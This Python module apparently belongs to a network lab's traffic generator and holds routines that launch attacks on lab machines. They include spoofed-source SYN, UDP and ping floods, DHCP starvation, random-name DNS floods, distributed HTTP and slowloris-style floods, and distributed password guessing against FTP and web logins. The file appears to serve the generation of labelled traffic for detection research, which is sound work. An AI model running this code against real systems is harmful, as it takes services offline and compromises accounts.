"""Floods of which each packet or each connection may come from another address."""

from __future__ import annotations

import socket
from collections.abc import Callable
from contextlib import suppress

from evenflow.lab import _raw
from evenflow.lab._steps import fetch, ftp_login, http_connection
from evenflow.lab.doing import Doing
from evenflow.lab.words import DOMAIN, GUESSES, NAMES, USERS


def forged(kind: str) -> Callable[[Doing], bool | None]:
    """Return a flood of SYNs, datagrams or pings with addresses of others."""

    def flood(d: Doing) -> bool | None:
        machine = d.others()[0]
        ports = [*machine.services.values(), 53, 80]
        rate = d.rate(20, 800)
        sources = d.visitors(1, 3, 15, 60, 400)
        port = d.rng.choice(ports)
        many_ports = d.rng.random() < 0.3
        data = d.rng.randbytes(d.rng.choice([1, 40, 300, 1200]))
        n = d.times(60, 350)
        d.note(destination=machine.ip, packets=n)
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as here:
            for number in range(n):
                source, own = d.rng.choice(sources), d.rng.randrange(1024, 65_536)
                other = d.rng.choice(ports) if many_ports else port
                if kind == "syn":
                    packet = _raw.syn(source, own, machine.ip, other, number=number)
                elif kind == "udp":
                    packet = _raw.datagram(
                        source, own, machine.ip, other, data, number=number
                    )
                else:
                    packet = _raw.echo(source, machine.ip, data, number=number)
                with suppress(OSError):
                    here.sendto(packet, (machine.ip, 0))
                d.pause(1 / rate)
                if d.is_over():
                    break
        return None

    return flood


def dhcp_flood(d: Doing) -> bool | None:
    """Ask for addresses for machines that do not exist, until none is left."""
    rate = d.rate(8, 600)
    n = d.times(60, 3000)
    hides = d.rng.random() < 0.5
    sender = b"" if hides else b"\x02" + d.rng.randbytes(5)
    asks_on = d.rng.random() < 0.3
    d.note(hides=hides, packets=n)
    with _raw.link() as here:
        for _ in range(n):
            mac = b"\x02" + d.rng.randbytes(5)
            here.send(_raw.dhcp(mac, 1, d.rng.randbytes(4), sender=sender))
            if asks_on:
                here.send(_raw.dhcp(mac, 3, d.rng.randbytes(4), sender=sender))
            d.pause(1 / rate)
            if d.is_over():
                break
    return None


def spread_dhcp_flood(d: Doing) -> bool | None:
    """Ask for addresses, or give back those of others, from many addresses."""
    ip, port = d.service("dhcp")
    rate = d.rate(8, 600)
    n = d.times(60, 600)
    sources = d.visitors(30, 120, 400, 1000)
    kind = d.rng.choice([1, 3, 7, 8])
    fixed, to_all = d.rng.random() < 0.6, d.rng.random() < 0.5
    d.note(packets=n, kind=kind, to_all=to_all)
    for number in range(n):
        source, own = (
            d.rng.choice(sources),
            68 if fixed else d.rng.randrange(1024, 65_536),
        )
        data = _raw.request(b"\x02" + d.rng.randbytes(5), kind, d.rng.randbytes(4))
        there = _raw.ALL if to_all else ip
        _raw.send(_raw.datagram(source, own, there, port, data, number=number), there)
        d.pause(1 / rate)
        if d.is_over():
            break
    return None


def dns_flood(d: Doing) -> bool | None:
    """Ask for names that do not exist, from one address or from several."""
    at = d.service("dns", "dns2", "names")
    rate = d.rate(40, 800)
    n = d.times(100, 500)
    sources = d.visitors(0, 0, 3, 30)
    ports = d.rng.choice([1, 30, 500])
    label, kinds = d.rng.choice([4, 8, 12]), d.rng.choice([(1,), (255,), (1, 28)])
    sockets = []
    for _ in range(min(ports, n)):
        here = d.udp()
        if sources:
            here.bind((d.rng.choice(sources), 0))
        here.connect(at)
        sockets.append(here)
    for i in range(n):
        name = f"{d.rng.randbytes(label).hex()}.{d.rng.choice(NAMES)}.{DOMAIN}"
        with suppress(OSError):
            sockets[i % len(sockets)].send(d.question(name, d.rng.choice(kinds)))
        d.pause(1 / rate)
        if d.is_over():
            break
    for here in sockets:
        here.close()
    return None


def dnsperf(d: Doing) -> bool | None:
    """Ask for names as fast as told, by dnsperf."""
    ip, port = d.service("dns", "dns2")
    rate = d.rate(60, 800)
    names = d.folder / "names"
    names.write_text(
        "".join(f"{d.rng.randbytes(6).hex()}.{DOMAIN} A\n" for _ in range(300))
    )
    d.run(
        "dnsperf", "-s", ip, "-p", port, "-d", names, "-Q", round(rate), "-l",
        max(1, round(d.times(100, 500) / rate)), "-c", d.rng.choice([1, 20, 200]),
    )  # fmt: skip
    return None


def spread_http_flood(d: Doing) -> bool | None:
    """Ask for pages without end from several addresses."""
    at = d.service("nginx", "lighttpd", "api")
    rate = d.rate(15, 200)
    sources = d.visitors(3, 15, 60)
    each = max(2, d.times(80, 400) // 8)

    def some() -> None:
        for _ in range(each):
            web = http_connection(d, *at, d.rng.choice(sources))
            fetch(d, web, d.rng.choice(d.pages[:9]), keep=False)
            d.think(8 / rate)
            if d.is_over():
                break

    d.together(some for _ in range(8))
    return None


def spread_slow(d: Doing) -> bool | None:
    """Hold connections open from several addresses."""
    ip, port = d.service("nginx", "lighttpd", "api")
    sources = d.visitors(3, 15, 60)
    rate, wait = d.rate(3, 40), d.between(1, 8)
    sockets = []
    for _ in range(d.times(20, 120)):
        if s := d.connect(ip, port, 1, d.rng.choice(sources)):
            with suppress(OSError):
                s.sendall(b"GET / HTTP/1.1\r\nHost: w\r\n")
            sockets.append(s)
        d.think(1 / rate)
        if d.is_over():
            break
    for _ in range(int(d.between(10, 30) / wait) + 1):
        for s in sockets:
            with suppress(OSError):
                s.sendall(f"X-{d.rng.randrange(999)}: a\r\n".encode())
        d.pause(wait)
    for s in sockets:
        s.close()
    return None


def spread_guess(kind: str) -> Callable[[Doing], bool]:
    """Return guessing from several addresses, each with few tries."""

    def guess(d: Doing) -> bool:
        at = d.service(*({"ftp": ("ftp",)}.get(kind, ("nginx", "lighttpd"))))
        rate, user = d.rate(0.3, 20), d.rng.choice(list(USERS))
        sources = d.visitors(3, 10, 30)
        for word in d.rng.sample(GUESSES, min(len(GUESSES), d.times(10, 80))):
            source = d.rng.choice(sources)
            if kind == "ftp":
                found = ftp_login(d, *at, user, word, source)
            else:
                web = http_connection(d, *at, source)
                found = fetch(d, web, "private/", keep=False,
                              user=f"{user}:{word}") == 200  # fmt: skip
            d.think(1 / rate)
            if found or d.is_over():
                return bool(found)
        return False

    return guess
